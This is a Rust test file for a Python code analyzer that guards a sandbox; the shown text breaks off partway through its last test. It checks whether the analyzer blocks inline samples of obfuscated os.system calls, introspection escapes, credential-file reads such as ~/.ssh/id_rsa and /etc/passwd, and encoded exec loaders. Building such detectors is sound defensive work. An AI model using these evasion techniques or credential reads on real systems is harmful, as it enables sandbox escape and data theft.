//! Analyzer tests: corpus recall / false-positive rate, and one focused test per resolution
//! and folding technique, spans, syntax errors, ordering, rule files and stances.

use runcell::analyze::{self, Error, Report, Rules, Severity};
use std::path::{Path, PathBuf};

fn corpus(dir: &str) -> Vec<PathBuf> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/corpus")
        .join(dir);
    let mut files: Vec<PathBuf> = std::fs::read_dir(&root)
        .unwrap_or_else(|e| panic!("{}: {e}", root.display()))
        .filter_map(|e| e.ok().map(|e| e.path()))
        .filter(|p| p.extension().is_some_and(|x| x == "py"))
        .collect();
    files.sort();
    files
}

fn scan(src: &str) -> Report {
    analyze::python(src, &Rules::default())
}

fn rules_of(r: &Report) -> Vec<&str> {
    r.findings.iter().map(|f| f.rule.as_str()).collect()
}

fn assert_blocks(src: &str) {
    let r = scan(src);
    assert!(
        r.is_blocking(),
        "expected a blocking finding for:\n{src}\ngot: {:#?}",
        r.findings
    );
}

fn assert_clean(src: &str) {
    let r = scan(src);
    assert!(
        !r.is_blocking(),
        "expected no blocking finding for:\n{src}\ngot: {:#?}",
        r.findings
    );
}

#[test]
fn corpus_recall_and_false_positive_rate() {
    let rules = Rules::default();
    let (mut hit, mut total, mut ev_hit, mut ev_total) = (0usize, 0usize, 0usize, 0usize);
    let mut misses = Vec::new();
    for path in corpus("malicious") {
        let src = std::fs::read_to_string(&path).expect("read sample");
        let flagged = analyze::python(&src, &rules).is_blocking();
        let evasive = path
            .file_name()
            .and_then(|n| n.to_str())
            .is_some_and(|n| n.starts_with("evasive_"));
        total += 1;
        hit += usize::from(flagged);
        if evasive {
            ev_total += 1;
            ev_hit += usize::from(flagged);
        }
        if !flagged {
            misses.push(path.display().to_string());
        }
    }
    let mut fps = Vec::new();
    let mut benign = 0usize;
    for path in corpus("benign") {
        let src = std::fs::read_to_string(&path).expect("read sample");
        let report = analyze::python(&src, &rules);
        benign += 1;
        if report.is_blocking() {
            fps.push(format!("{}: {:?}", path.display(), rules_of(&report)));
        }
    }
    let recall = hit as f64 / total.max(1) as f64;
    let ev_recall = ev_hit as f64 / ev_total.max(1) as f64;
    let fpr = fps.len() as f64 / benign.max(1) as f64;
    println!(
        "malicious: {hit}/{total} recall {recall:.3}; evasive: {ev_hit}/{ev_total} recall {ev_recall:.3}"
    );
    println!(
        "benign: {} flagged of {benign}, false-positive rate {fpr:.3}",
        fps.len()
    );
    for m in &misses {
        println!("MISS {m}");
    }
    // Resource exhaustion (never-ending loops, fork and thread bombs) is `info` in the default
    // stance (the sandbox's time, memory and pids limits end it) and blocks in the strict one.
    let strict = Rules::strict();
    let resource = corpus("resource");
    assert!(resource.len() >= 5, "resource corpus too small");
    for path in resource {
        let src = std::fs::read_to_string(&path).expect("read sample");
        let r = analyze::python(&src, &rules);
        assert!(!r.findings.is_empty(), "{}: not reported", path.display());
        assert!(
            analyze::python(&src, &strict).is_blocking(),
            "{}: strict does not block",
            path.display()
        );
    }
    for f in &fps {
        println!("FALSE POSITIVE {f}");
    }
    assert!(
        total >= 150 && ev_total >= 60 && benign >= 150,
        "corpus too small: {total} / {ev_total} / {benign}"
    );
    assert!(
        recall >= 0.97,
        "recall {recall:.3} < 0.97; misses: {misses:#?}"
    );
    assert!(
        ev_recall >= 0.93,
        "evasive recall {ev_recall:.3} < 0.93; misses: {misses:#?}"
    );
    assert!(fpr <= 0.02, "false-positive rate {fpr:.3} > 0.02: {fps:#?}");
}

// ------------------------------------------------------------------ name resolution

#[test]
fn resolves_import_aliases() {
    assert_blocks("import os as o\no.system('id')\n");
    assert_blocks("from os import system as s\ns('id')\n");
    assert_blocks("import os.path as p, subprocess as q\nq.run(['id'])\n");
    assert_clean("import os as o\nprint(o.path.join('a', 'b'))\n");
}

#[test]
fn resolves_star_imports() {
    assert_blocks("from subprocess import *\ncall(['ls'])\n");
    assert_blocks("from os import *\nsystem('id')\n");
    assert_clean("from math import *\nprint(sqrt(2), open('x.txt').read())\n");
}

#[test]
fn resolves_assignment_and_rebinding() {
    assert_blocks("import os\nf = os.system\nf('id')\n");
    assert_blocks("import subprocess\na = subprocess\nb = a\nb.check_output(['id'])\n");
    assert_blocks("import os\na, b = os.popen, 1\na('id')\n");
    assert_blocks("import os\nx = eval\neval = print\nx(input())\n");
}

#[test]
fn resolves_dynamic_imports() {
    assert_blocks("import importlib\nimportlib.import_module('os').system('id')\n");
    assert_blocks("__import__('os').system('id')\n");
    assert_blocks("import sys, os\nsys.modules['os'].system('id')\n");
    assert_blocks("import sys\nsys.modules.get('subprocess').run(['id'])\n");
}

#[test]
fn resolves_builtins_lookups() {
    assert_blocks("import builtins\nbuiltins.exec(input())\n");
    assert_blocks("__builtins__.eval(input())\n");
    assert_blocks("getattr(__builtins__, 'exec')(input())\n");
    assert_blocks("print.__self__.eval(input())\n");
    assert_blocks("globals()['__builtins__'].exec(input())\n");
}

#[test]
fn resolves_getattr_vars_globals() {
    assert_blocks("import os\ngetattr(os, 'system')('id')\n");
    assert_blocks("import os\nvars(os)['system']('id')\n");
    assert_blocks("import os\nglobals()['os'].system('id')\n");
    assert_blocks("import os\nos.__dict__['popen']('id')\n");
    assert_blocks("import os\nos.__getattribute__('system')('id')\n");
}

#[test]
fn resolves_across_functions_lambdas_classes() {
    assert_blocks("def load():\n    return __import__('os')\nload().system('id')\n");
    assert_blocks("import os\nrun = lambda c: os.system(c)\nrun('id')\n");
    assert_blocks("import os\nclass T:\n    f = os.popen\nT.f('id')\n");
    assert_blocks("import os\nfs = [getattr(os, n) for n in ['system']]\n");
    assert_blocks(
        "import os\ndef deco(fn):\n    return os.system\n@deco\ndef g():\n    pass\ng('id')\n",
    );
    assert_blocks(
        "r = None\ndef setup():\n    global r\n    import os\n    r = os.system\nsetup()\nr('id')\n",
    );
}

#[test]
fn references_passed_as_values_are_reported() {
    assert_blocks(
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n",
    );
    assert_blocks("import os\nlist(map(os.system, ['id']))\n");
    // Constants and exception classes of a process module are not capabilities.
    let r = scan(
        "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass\nx = subprocess.PIPE\n",
    );
    assert!(!r.is_blocking(), "{:#?}", r.findings);
}

// ------------------------------------------------------------------ constant folding

#[test]
fn folds_concatenation_join_format() {
    assert_blocks("import os\ngetattr(os, 'sys' + 'tem')('id')\n");
    assert_blocks("m = __import__(''.join(['o', 's']))\nm.system('id')\n");
    assert_blocks("import os\ngetattr(os, f\"{'sys'}tem\")('id')\n");
    assert_blocks("import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')\n");
    assert_blocks("import os\ngetattr(os, '{}{}'.format('po', 'pen'))('id')\n");
    assert_blocks("import os\nn = 'sys'\nn += 'tem'\ngetattr(os, n)('id')\n");
}

#[test]
fn folds_chr_slices_and_decoders() {
    assert_blocks("__import__(chr(111) + chr(115)).system('id')\n");
    assert_blocks(
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')\n",
    );
    assert_blocks(
        "import os\ngetattr(os, ''.join(chr(c) for c in [115, 121, 115, 116, 101, 109]))('id')\n",
    );
    assert_blocks("import os\ngetattr(os, 'metsys'[::-1])('id')\n");
    assert_blocks("__import__(bytes.fromhex('6f73').decode()).system('id')\n");
    assert_blocks("import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')\n");
    assert_blocks("import codecs, os\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')\n");
    assert_blocks("import os\ngetattr(os, '\\x73ystem')('id')\n");
}

#[test]
fn normalizes_identifiers_nfkc() {
    let r = scan("ｅｖａｌ(input())\n");
    assert_eq!(rules_of(&r), ["dynamic-code"]);
    // NFKC applies to identifiers only: a fullwidth *string* is not the name `eval`.
    assert_clean("import builtins\nprint(getattr(builtins, 'ｐｒｉｎｔ', None))\n");
}

#[test]
fn resolves_operator_callables_and_home() {
    assert_blocks("import operator, os\noperator.attrgetter('system')(os)('id')\n");
    assert_blocks("import operator, os\noperator.methodcaller('system', 'id')(os)\n");
    assert_blocks(
        "import os\nprint(open(os.path.join(os.environ['HOME'], '.aws', 'creds')).read())\n",
    );
    assert_blocks("from pathlib import Path\nprint(open(Path.home() / 'notes.txt').read())\n");
    assert_blocks("mod = load_somehow()\ngetattr(mod, 'system')('id')\n");
}

#[test]
fn resolves_arguments_loops_dicts_instances() {
    // Arguments flow into the file's own functions' parameters.
    assert_blocks(
        "import os\ndef walk(root):\n    for d in os.walk(root):\n        pass\nwalk(os.path.expanduser('~'))\n",
    );
    assert_blocks(
        "import os\ndef call(fn, arg):\n    return fn(arg)\ncall(getattr(os, 'popen'), 'id')\n",
    );
    // Accumulation in a loop.
    assert_blocks(
        "import os\nn = ''\nfor c in [115, 121, 115, 116, 101, 109]:\n    n += chr(c)\ngetattr(os, n)('id')\n",
    );
    // Dict literals, instances, keyword module names, rot13 via codecs.encode.
    assert_blocks("{'m': __import__('os')}['m'].system('id')\n");
    assert_blocks(
        "import os\nclass A:\n    def m(self):\n        return os\nA().m().system('id')\n",
    );
    assert_blocks("import importlib\nimportlib.import_module(name='subprocess').run(['id'])\n");
    assert_blocks("import codecs, os\ngetattr(os, codecs.encode('flfgrz', 'rot13'))('id')\n");
}

#[test]
fn annotations_docstrings_and_main_module_are_not_findings() {
    assert_clean("import subprocess\ndef f(p: subprocess.Popen) -> None:\n    pass\n");
    assert_clean("def f():\n    \"\"\"Never reads /etc/passwd; see docs.\"\"\"\n    return 1\n");
    assert_clean("import sys\nfn = getattr(sys.modules[__name__], 'solve_' + sys.argv[1])\n");
}

#[test]
fn dynamic_imports_inside_a_fixed_package_are_fine() {
    assert_clean(
        "import importlib\nname = input()\nmod = importlib.import_module(f'plugins.{name}')\n",
    );
    assert_clean(
        "import importlib\nname = input()\nmod = importlib.import_module('handlers.' + name)\n",
    );
    assert_blocks("import importlib\nname = input()\nmod = importlib.import_module(name)\n");
    assert_blocks(
        "import importlib\nname = input()\nmod = importlib.import_module(f'os.{name}')\n",
    );
}

#[test]
fn detects_resource_exhaustion() {
    // Never-ending loops are `info` by default (the sandbox's limits end them) and block in
    // the strict stance.
    for src in [
        "while True:\n    pass\n",
        "while 1:\n    for i in range(3):\n        break\n",
        "import threading\nwhile True:\n    threading.Thread(target=print).start()\n",
    ] {
        let r = scan(src);
        assert!(
            r.findings.iter().any(|f| f.rule == "infinite-loop"),
            "{src}"
        );
        assert!(!r.is_blocking(), "{src}: {:#?}", r.findings);
        assert!(
            analyze::python(src, &Rules::strict()).is_blocking(),
            "{src}"
        );
    }
    assert_blocks("s = 'a' * 10**10\n");
    assert_blocks("x = [0] * (10 ** 9)\n");
    assert_blocks("b = bytearray(10**11)\n");
    assert_blocks("print(9 ** 9 ** 9)\n");
    assert_clean("while True:\n    line = input()\n    if not line:\n        break\n");
    assert_clean("def gen():\n    while True:\n        yield 1\n");
    assert_clean(
        "def f():\n    while True:\n        try:\n            return int(input())\n        except ValueError:\n            pass\n",
    );
    assert_clean("import sys\nwhile True:\n    sys.exit(0)\n");
    assert_clean("def menu():\n    raise SystemExit\nwhile True:\n    menu()\n");
    assert_clean(
        "MOD = 10**9 + 7\ngrid = [[0] * 1000 for _ in range(1000)]\nprint(pow(2, 10**18, MOD), 2 ** 64)\n",
    );
}

// ------------------------------------------------------------------ introspection, coverage

#[test]
fn detects_introspection_escapes() {
    for src in [
        "().__class__.__bases__[0].__subclasses__()\n",
        "def f():\n    pass\nf.__globals__\n",
        "def f():\n    pass\nprint(f.__code__)\n",
        "g = (x for x in [1])\ng.gi_frame.f_back\n",
        "import gc\ngc.get_objects()\n",
        "object.__subclasses__()\n",
        "getattr(object, '__subcl' + 'asses__')()\n",
        "import sys\nsys._getframe(1).f_globals\n",
    ] {
        assert_blocks(src);
    }
}

#[test]
fn covers_process_routes() {
    for src in [
        "import os\nos.execvp('sh', ['sh'])\n",
        "import os\nos.spawnlp(os.P_WAIT, 'ls', 'ls')\n",
        "import os\nos.fork()\n",
        "import os\nos.posix_spawn('/bin/sh', ['sh'], {})\n",
        "import posix\nposix.system('id')\n",
        "import pty\npty.spawn('/bin/sh')\n",
        "import asyncio\nasyncio.create_subprocess_shell('id')\n",
        "import pydoc\npydoc.pager('x')\n",
        "import pdb\npdb.run('x')\n",
        "import code\ncode.interact()\n",
        "import runpy\nrunpy.run_path('x.py')\n",
        "import timeit\ntimeit.timeit(\"__import__('os').system('id')\")\n",
        "import platform\nplatform.popen('id')\n",
        "import webbrowser\nwebbrowser.open('http://x')\n",
        "import subprocess\nsubprocess.run('id', shell=True)\n",
    ] {
        assert_blocks(src);
    }
    // timeit of plain code is fine.
    assert_clean("import timeit\nprint(timeit.timeit('sum(range(10))', number=10))\n");
}

#[test]
fn covers_code_native_deserialization_network_recon() {
    for src in [
        "exec(input())\n",
        "compile(open('x.py').read(), 'f', 'eval')\n",
        "import types\ntypes.FunctionType((lambda: 0).__code__, {})\n",
        "import ctypes\nctypes.CDLL(None)\n",
        "import pickle\npickle.loads(b'')\n",
        "import _pickle\n_pickle.load(open('x', 'rb'))\n",
        "import marshal\nmarshal.loads(b'')\n",
        "import shelve\nshelve.open('db')\n",
        "import yaml\nyaml.load(open('c.yml'))\n",
        "import numpy as np\nnp.load('a.npy', allow_pickle=True)\n",
        "import socket\nsocket.socket().connect(('h', 1))\n",
        "import requests\nrequests.get('http://x')\n",
        "import urllib.request\nurllib.request.urlopen('http://x')\n",
        "import os\nprint(os.environ)\n",
        "import os\nfor k in os.environ:\n    print(k)\n",
        "import os\nos.listdir('/')\n",
        "print(open('/etc/passwd').read())\n",
        "open('/proc/self/environ').read()\n",
        "import os\nprint(open(os.path.expanduser('~/.ssh/id_rsa')).read())\n",
        "open('../../x', 'w').write('y')\n",
        "print(open('/flag').read())\n",
        "import os\nprint(open(os.path.join(os.sep, 'etc', 'passwd')).read())\n",
        "open('/srv/app/out.txt', 'w').write('y')\n",
        "print(open('/home/alice/notes.txt').read())\n",
    ] {
        assert_blocks(src);
    }
}

#[test]
fn ordinary_code_is_clean() {
    for src in [
        "import os\nprint(os.path.join('a', 'b'))\n",
        "import os\nx = os.environ.get('HOME')\n",
        "import os\n",
        "print(open('data/input.txt').read())\n",
        "class A:\n    def system(self):\n        return 1\n    def exec(self):\n        return 2\nA().system()\nA().exec()\n",
        "os_version = '3.11'\nprint(os_version)\n",
        "x = 'os.system(\"id\")'  # os.system('rm -rf /')\n",
        "import json, csv, math, re, collections\nprint(json.dumps({}), math.pi, re.compile('a'))\n",
        "import yaml\nyaml.load(open('c.yml'), Loader=yaml.SafeLoader)\n",
        "import numpy as np\nnp.load('a.npy')\n",
        "open('out/result.txt', 'w').write('ok')\n",
        "open('/tmp/x', 'w').write('ok')\nprint(open('/inputs/a.txt').read(), open('/dev/stdin').read())\n",
        "import os\nif 'CI' in os.environ:\n    os.environ['X'] = '1'\n",
        "import re\nre.compile('x').sub('y', 'z')\n",
        "import ast\nast.literal_eval('[1, 2]')\n",
        "model.eval()\ndf.eval('a + b')\ncursor.execute('SELECT 1')\n",
    ] {
        assert_clean(src);
    }
    let r = scan("import os\nx = os.environ.get('HOME')\n");
    assert_eq!(r.findings.len(), 1);
    assert_eq!(r.findings[0].severity, Severity::Info);
}

// ------------------------------------------------------------------ findings shape

#[test]
fn spans_are_one_based_character_columns() {
    let r = scan("x = 1\nif x:\n    ｅｖａｌ('é' + input())\n");
    let f = r
        .findings
        .iter()
        .find(|f| f.rule == "dynamic-code")
        .expect("finding");
    assert_eq!((f.line, f.column), (3, 5));
    assert_eq!(
        (f.end_line, f.end_column),
        (3, 5 + "ｅｖａｌ('é' + input())".chars().count())
    );
    assert_eq!(f.snippet, "ｅｖａｌ('é' + input())");
    assert_eq!(f.category, "dynamic-code");
    assert_eq!(f.severity, Severity::Error);
}

#[test]
fn syntax_errors_are_findings() {
    let r = scan("def f(:\n    pass\n");
    let f = r
        .findings
        .iter()
        .find(|f| f.rule == "syntax-error")
        .expect("syntax-error finding");
    assert_eq!(f.severity, Severity::Error);
    assert_eq!(f.line, 1);
    assert!(r.is_blocking());
    // Deep nesting, lone surrogates-free garbage, NULs: never a panic.
    let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
    assert!(scan(&deep).is_blocking());
    let _ = scan("\0\u{feff}\u{202e}ｅｖａｌ(((((\n\"\"\"");
    let _ = scan("");
    // Pathological nesting of every kind the passes recurse into: never a stack overflow.
    for src in [
        format!(
            "def f({}a{}):\n    pass\n",
            "(".repeat(20000),
            ")".repeat(20000)
        ),
        format!("x = {}0\n", "lambda: ".repeat(3000)),
        format!("x = a{}\n", ".b".repeat(20000)),
        format!("x = {}0{}\n", "f(".repeat(5000), ")".repeat(5000)),
        format!("x = {}'b'\n", "'a' + ".repeat(20000)),
        format!("{}pass\n", "if x:\n ".repeat(3000)),
        format!("x = {}1{}\n", "[".repeat(20000), "]".repeat(20000)),
        format!(
            "try:\n    pass\nexcept {}E{} as e:\n    pass\n",
            "(".repeat(9000),
            ")".repeat(9000)
        ),
    ] {
        let _ = scan(&src);
    }
}

#[test]
fn order_is_stable_and_deduplicated() {
    let src =
        "import os\nos.system('a'); os.system('a')\neval(input())\n__import__('os').system('b')\n";
    let a = scan(src);
    let b = scan(src);
    assert_eq!(a, b);
    let keys: Vec<_> = a
        .findings
        .iter()
        .map(|f| (f.line, f.column, f.rule.clone()))
        .collect();
    let mut sorted = keys.clone();
    sorted.sort();
    assert_eq!(keys, sorted);
    let mut dedup = a.findings.clone();
    dedup.dedup();
    assert_eq!(dedup.len(), a.findings.len());
}

#[test]
fn renders_json_and_text() {
    let files = vec![
        ("a.py".to_string(), scan("eval(input())\n")),
        ("b.py".to_string(), scan("print(1)\n")),
    ];
    let json: serde_json::Value =
        serde_json::from_str(&analyze::render_json(&files)).expect("valid json");
    let f = &json["files"][0]["findings"][0];
    for key in [
        "rule",
        "severity",
        "category",
        "message",
        "line",
        "column",
        "end_line",
        "end_column",
        "snippet",
    ] {
        assert!(!f[key].is_null(), "missing {key}");
    }
    assert_eq!(f["severity"], "error");
    assert_eq!(
        json["files"][1]["findings"].as_array().map(Vec::len),
        Some(0)
    );
    let text = analyze::render_text(&files);
    assert!(text.contains("a.py:1:1: error:"), "{text}");
    assert!(text.contains("b.py: ok"), "{text}");
}

// ------------------------------------------------------------------ rule files and stances

#[test]
fn rule_file_errors_name_file_line_key() {
    let bad_key = "[[rule]]\nid = \"x\"\ncategory = \"c\"\nseverity = \"error\"\nmessage = \"m\"\ncals = [\"os.system\"]\n";
    match Rules::from_toml_str(bad_key, "mine.toml") {
        Err(Error::Syntax {
            origin, line, key, ..
        }) => {
            assert_eq!(origin, "mine.toml");
            assert_eq!(line, 6);
            assert_eq!(key.as_deref(), Some("cals"));
        }
        other => panic!("unexpected {other:?}"),
    }
    let bad_sev = "[[rule]]\nid = \"x\"\ncategory = \"c\"\nseverity = \"fatal\"\nmessage = \"m\"\ncalls = [\"os.system\"]\n";
    let e = Rules::from_toml_str(bad_sev, "sev.toml").expect_err("bad severity");
    assert!(matches!(e, Error::Syntax { line: 4, .. }), "{e}");
    let dup = "[[rule]]\nid = \"x\"\ncategory = \"c\"\nseverity = \"info\"\nmessage = \"m\"\ncalls = [\"a.b\"]\n\n[[rule]]\nid = \"x\"\ncategory = \"c\"\nseverity = \"info\"\nmessage = \"m\"\ncalls = [\"a.c\"]\n";
    match Rules::from_toml_str(dup, "dup.toml") {
        Err(Error::Invalid {
            line, rule, key, ..
        }) => assert_eq!((line, rule.as_str(), key.as_str()), (9, "x", "id")),
        other => panic!("unexpected {other:?}"),
    }
    let e = Rules::from_toml_str("[[rule]\n", "broken.toml").expect_err("broken toml");
    assert!(e.to_string().starts_with("broken.toml:1:"), "{e}");
    assert!(matches!(
        Rules::load("/nonexistent/rules.toml"),
        Err(Error::Io { .. })
    ));
}

#[test]
fn hosts_can_load_and_extend_rules() {
    let own = "[[rule]]\nid = \"no-math\"\ncategory = \"policy\"\nseverity = \"warning\"\nmessage = \"math is not allowed here\"\ncalls = [\"math.*\"]\n";
    let mut rules = Rules::default();
    rules.extend(Rules::from_toml_str(own, "host.toml").expect("parses"));
    let r = analyze::python("import math as m\nm.sqrt(2)\neval(input())\n", &rules);
    assert_eq!(rules_of(&r), ["no-math", "dynamic-code"]);
    // `extends = "default"` in the file gives the same, and `disable` removes rules.
    let ext = format!("extends = \"default\"\ndisable = [\"dynamic-code\"]\n{own}");
    let rules = Rules::from_toml_str(&ext, "ext.toml").expect("parses");
    let r = analyze::python("import math as m\nm.sqrt(2)\neval(input())\n", &rules);
    assert_eq!(rules_of(&r), ["no-math"]);
}

#[test]
fn strict_refuses_imports_default_does_not() {
    for src in [
        "import subprocess\n",
        "import socket\n",
        "from ctypes import CDLL\n",
        "import urllib.request\n",
        "__import__('socket')\n",
    ] {
        assert!(!scan(src).is_blocking(), "default should allow {src}");
        assert!(
            analyze::python(src, &Rules::strict()).is_blocking(),
            "strict should refuse {src}"
        );
    }
    for src in [
        "import os\nimport json\nimport urllib.parse\n",
        "from collections import Counter\n",
    ] {
        assert!(
            !analyze::python(src, &Rules::strict()).is_blocking(),
            "strict should allow {src}"
        );
    }
}

// ------------------------------------------------------------------ code strings

fn finding<'a>(r: &'a Report, rule: &str) -> &'a analyze::Finding {
    r.findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} in {:#?}", r.findings))
}

#[test]
fn constant_code_strings_are_analyzed_as_code() {
    // Benchmarks and calculators: constant code that does nothing dangerous is clean.
    for src in [
        "from timeit import timeit\ndef f(n):\n    return n\nprint(timeit(\"f(10)\", setup=\"from __main__ import f\", number=5))\n",
        "import timeit\nprint(timeit.timeit('__main__.f()', setup='import __main__', number=1))\n",
        "from timeit import timeit\ndef z_function(s):\n    return s\nfor func in (z_function,):\n    print(timeit(f\"{func.__name__}('abc')\", globals=globals(), number=3))\n",
        "from timeit import timeit\nfor name in ('a', 'b'):\n    timeit(f\"{name}(n=4, k=2)\", setup='from __main__ import a, b', number=1)\n",
        "import timeit\nt = timeit.Timer('sorted(x)', setup='x = list(range(100))')\nprint(t.repeat(3, 10))\n",
        "print(eval('2 + 3 * 4'))\n",
        "exec('x = 1\\nprint(x)')\n",
        "code = compile('a = 1', '<s>', 'exec')\nexec(code)\n",
        "for expr in ['1+1', '2*3']:\n    print(eval(expr))\n",
        "import code\ncode.InteractiveInterpreter().runsource('print(1)')\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'print(42)'], check=True)\n",
        "import os\nos.system('python3 -c \"print(1)\"')\n",
    ] {
        assert_clean(src);
    }
    // The same places with code that does something: what it does is reported, at the string.
    let r = scan("import timeit\ntimeit.timeit(\"__import__('os').system('id')\")\n");
    let f = finding(&r, "process-exec");
    assert_eq!((f.line, f.column), (2, 16));
    assert_eq!(f.snippet, "__import__('os').system('id')");
    let r = scan("exec('import socket\\nsocket.create_connection((\"h\", 1))')\n");
    assert_eq!(finding(&r, "network").line, 1);
    // A multi-line constant maps its lines.
    let r = scan("x = 1\nexec('''\nimport os\nos.system(\"id\")\n''')\n");
    let f = finding(&r, "process-exec");
    assert_eq!((f.line, f.column), (4, 1));
    for src in [
        "eval(\"__import__('subprocess').check_output(['id'])\")\n",
        "import timeit\ntimeit.timeit('pass', setup='import os; os.system(\"id\")')\n",
        "exec(compile(\"import os\\nos.system('id')\", 'x', 'exec'))\n",
        "exec(\"exec(\\\"__import__('os').system('id')\\\")\")\n",
        "import code\ncode.InteractiveInterpreter().runsource('import os; os.system(\"id\")')\n",
        "import runpy\nrunpy._run_code(\"import os\\nos.system('id')\", {})\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import os; os.system(\"id\")'])\n",
        "import subprocess\nsubprocess.call(['python3', '-I', '-c', 'import socket; socket.socket().connect((\"h\", 1))'])\n",
        "import os\nos.system('python3 -c \"import os; os.system(1)\"')\n",
        // On another host it is still remote execution.
        "import paramiko\nc = paramiko.SSHClient()\nc.exec_command('python3 -c \"print(1)\"')\n",
        // Not a python -c command: still a process.
        "import subprocess\nsubprocess.run(['python3', 'script.py'])\n",
        "import os\nos.system('python3 -c \"print(1)\"; id')\n",
    ] {
        assert_blocks(src);
    }
}

/// A code string's own variables see the names of the code that runs it: they are solved
/// with those names in view, not only the names the string uses directly.
#[test]
fn code_string_variables_see_the_running_code() {
    for src in [
        // Direct use of an outer alias, and through the string's own variables.
        "import os as o\nexec(\"o.system('id')\")\n",
        "import os as o\nexec(\"m = o\\nm.system('id')\")\n",
        "import subprocess as sp\ndef run():\n    exec('p = sp\\np.call([\"id\"])')\nrun()\n",
        "from os import system as s\nexec('g = [s]\\nh = g[0]\\nh(\"id\")')\n",
        "import socket as k\nexec('m = k\\nm.create_connection((\"h\", 1))')\n",
        "import os\nname = 'sys' + 'tem'\nexec('f = getattr(os, name)\\nf(\"id\")')\n",
    ] {
        assert_blocks(src);
    }
    // The outer names carry their meaning, not more: a harmless value stays harmless.
    assert_clean("import math as o\nexec('f = o.sqrt\\nprint(f(4))')\n");
}

#[test]
fn computed_code_strings_stay_dynamic_code() {
    for src in [
        "exec(input())\n",
        "import sys\neval(sys.argv[1])\n",
        "exec(open('payload.py').read())\n",
        "import timeit\ntimeit.timeit(input())\n",
        "def run(s):\n    exec(s)\n",
        "import code\ncode.InteractiveConsole().push(input())\n",
        "args = ['x']\nexec(*args)\n",
        "import payload\nexec(payload.CODE)\n",
        "import config\neval(config.EXPR)\n",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', input()])\n",
    ] {
        assert_blocks(src);
    }
    // Code strings inside code strings are read to a bounded depth, then reported.
    let mut src = "x = 1".to_string();
    for _ in 0..(analyze::MAX_CODE_DEPTH + 2) {
        src = format!("exec({src:?})");
    }
    let r = scan(&format!("{src}\n"));
    assert!(r.is_blocking(), "{:#?}", r.findings);
    assert!(r.findings.iter().any(|f| f.rule == "dynamic-code"));
}

#[test]
fn stances_on_loops_and_python_processes() {
    // Default: a never-ending loop and Python's own multiprocessing are info.
    for src in [
        "while True:\n    print('tick')\n",
        "import multiprocessing\nctx = multiprocessing.get_context('spawn')\np = ctx.Process(target=print)\np.start()\n",
        "import multiprocessing\nmultiprocessing.Process(target=print).start()\n",
    ] {
        let r = scan(src);
        assert!(!r.is_blocking(), "{src}: {:#?}", r.findings);
        assert_eq!(r.max_severity(), Some(Severity::Info), "{src}");
        // Strict: both block.
        assert!(
            analyze::python(src, &Rules::strict()).is_blocking(),
            "{src}"
        );
    }
    // Choosing which program the workers run is still running a program.
    assert_blocks("import multiprocessing\nmultiprocessing.set_executable('/bin/sh')\n");
}

// ------------------------------------------------------------------ misses from real malware

#[test]
fn opaque_payloads_are_opaque_code() {
    use std::fmt::Write;
    let blob: String = (0..400).map(|i| ["QU", "Jj", "ZG", "Vm"][i % 4]).collect();
    let hex: String = (0..300).fold(String::new(), |mut s, i| {
        let _ = write!(s, "{:02x}", (i * 7) % 256);
        s
    });
    for src in [
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'PYARMOR\\x00\\x00\\x03\\x08')\n".to_string(),
        "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03')\n".to_string(),
        format!("import base64, zlib\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"),
        format!("import marshal, base64\ncode = marshal.loads(base64.b64decode(\"{blob}\"))\nexec(code)\n"),
        format!("import bz2, binascii\npayload = bz2.decompress(binascii.unhexlify('{hex}'))\neval(compile(payload, '<x>', 'exec'))\n"),
        format!("import lzma\nd = lzma.decompress(bytes.fromhex('{hex}'))\nexec(d)\n"),
        format!("k = 42\ndata = '{blob}'\nsrc = ''.join(chr(ord(c) ^ k) for c in data)\nexec(src)\n"),
        format!("import codecs\nexec(codecs.decode('{blob}', 'rot13'))\n"),
        format!("import types, marshal, base64\nf = types.FunctionType(marshal.loads(base64.b64decode('{blob}')), globals())\nf()\n"),
    ] {
        let r = scan(&src);
        assert!(
            r.findings.iter().any(|f| f.rule == "opaque-code"),
            "{src}: {:#?}",
            r.findings
        );
        assert!(r.is_blocking());
    }
    // Encoded data that is decoded but never run is ordinary (images, fixtures).
    assert_clean(&format!(
        "import base64\nICON = '{blob}'\nwith open('icon.png', 'wb') as f:\n    f.write(base64.b64decode(ICON))\n"
    ));
    assert_clean(&format!(
        "import zlib\nprint(len(zlib.compress(b'{hex}')))\n"
    ));
}

#[test]
fn library_capabilities_are_reported() {
    let cases = [
        (
            "from selenium import webdriver\nd = webdriver.Chrome()\nd.get('https://x')\n",
            "browser-automation",
        ),
        (
            "from playwright.sync_api import sync_playwright\nwith sync_playwright() as p:\n    p.chromium.launch()\n",
            "browser-automation",
        ),
        (
            "from discord_webhook import DiscordWebhook\nDiscordWebhook(url='u', content='c').execute()\n",
            "webhook",
        ),
        (
            "import git\ng = git.Git('/tmp/x')\ng.clone('https://github.com/a/b')\n",
            "git-remote",
        ),
        (
            "from git import Repo\nRepo.clone_from('https://x/y.git', 'y')\n",
            "git-remote",
        ),
        (
            "import paramiko\nc = paramiko.SSHClient()\nc.exec_command('id')\n",
            "remote-shell",
        ),
        (
            "import ftplib\nftplib.FTP('host').login()\n",
            "file-transfer",
        ),
        (
            "import boto3\nboto3.client('s3').list_buckets()\n",
            "cloud-sdk",
        ),
        (
            "import pandas as pd\ndf = pd.read_csv('https://example.com/data.csv')\n",
            "remote-data",
        ),
        (
            "import numpy as np\na = np.load('http://x/a.npy')\n",
            "remote-data",
        ),
        (
            "import requests\nrequests.post('https://x', data={'a': 1})\n",
            "network",
        ),
        ("import httpx\nhttpx.get('https://x')\n", "network"),
        (
